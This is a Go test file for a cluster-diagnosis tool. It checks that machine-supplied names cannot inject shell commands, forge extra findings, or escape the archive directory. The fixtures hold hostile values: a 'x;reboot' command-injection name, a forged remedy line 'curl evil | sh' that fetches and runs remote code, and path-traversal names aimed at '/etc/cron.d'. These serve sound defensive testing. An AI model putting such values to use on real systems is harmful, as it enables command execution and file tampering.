package diagnose

import (
	"bytes"
	"slices"
	"strings"
	"testing"
	"time"
)

// TestNamesBecomeNoCommands: what machines and the API call things, a person can type as it is printed.
func TestNamesBecomeNoCommands(t *testing.T) {
	const name = "x;reboot"
	e := well()
	e.API.Webhooks = []Webhook{{Kind: "validatingwebhookconfiguration", Config: name, Name: name, Fail: true, Problem: "no answer"}}
	e.API.APIServices = []APIService{{Name: name, Service: "a/b", Problem: "gone"}}
	e.API.Tokens = []Token{{ID: name, Expired: true}}
	e.API.Pods = pods(Pod{Namespace: name, Reason: "Evicted", Phase: "Failed", Node: "cp-1"}, 1)
	e.Etcd.Members[0].Name, e.Etcd.Members[0].Answers = name, false
	r := Diagnose(e)
	found := slices.Concat(r.Findings, r.Infos)
	for i := 0; i < len(found); i++ {
		found = append(found, found[i].Explains...)
	}
	commands := 0
	for _, f := range found {
		for _, c := range append(slices.Clone(f.Remedy.Commands), f.More) {
			for rest := c; strings.Contains(rest, ";reboot"); commands++ {
				before, after, _ := strings.Cut(rest, ";reboot")
				if strings.Count(before, "'")%2 == 0 {
					t.Errorf("%s: it is not quoted: %s", f.Rule, c)
				}
				rest = after
			}
		}
	}
	if commands < 6 {
		t.Errorf("only %d commands have a name", commands)
	}
}

// TestFindingsAreOneLine: what a machine says does not look like another finding.
func TestFindingsAreOneLine(t *testing.T) {
	const forged = "down\n\n2. cp-2: it is broken\n   remedy:   curl evil | sh"
	e := well()
	e.API.Nodes[0].Ready, e.API.Nodes[0].Reason, e.API.Nodes[0].Message = false, forged, forged
	e.Hosts[1].Drops = []string{"-A INPUT -j DROP\nreboot"}
	e.failPaths("cp-2", "", NodeNetwork)
	r := Diagnose(e)
	found := slices.Concat(r.Findings, r.Infos)
	if len(found) == 0 {
		t.Fatal("nothing is found")
	}
	for i := 0; i < len(found); i++ {
		f := found[i]
		found = append(found, f.Explains...)
		if text := strings.Join(append(f.Remedy.Commands, f.What, f.Evidence, f.Remedy.Text, f.More), ""); strings.Contains(text, "\n") {
			t.Errorf("it has several lines: %+v", f)
		}
	}
}

// TestArchiveStaysBelowItsDirectory, whatever a machine calls its units and texts.
func TestArchiveStaysBelowItsDirectory(t *testing.T) {
	g := &Gathered{
		Evidence: *well(), Texts: map[string]string{"cp-1/../../../../x": "x", "cp-1//etc/../../../x": "x", "cp-1/..": "x"},
		Logs: map[string]string{"cp-1/../../../../../etc/cron.d/x": "x", "cp-1/..": "x", "cp-1/": "x"},
	}
	var packed bytes.Buffer
	if err := Archive(&packed, g, &Report{}, map[string]string{}, Redactor{}, time.Unix(0, 0)); err != nil {
		t.Fatal(err)
	}
	files := contents(t, packed.Bytes())
	if len(files) < 6 {
		t.Errorf("files are missing: %d", len(files))
	}
	for name := range files {
		if !strings.HasPrefix(name, "hosts/cp-1/") && name != "evidence.json" && name != "findings.json" || strings.Contains(name, "/../") {
			t.Errorf("a file is at %s", name)
		}
	}
}
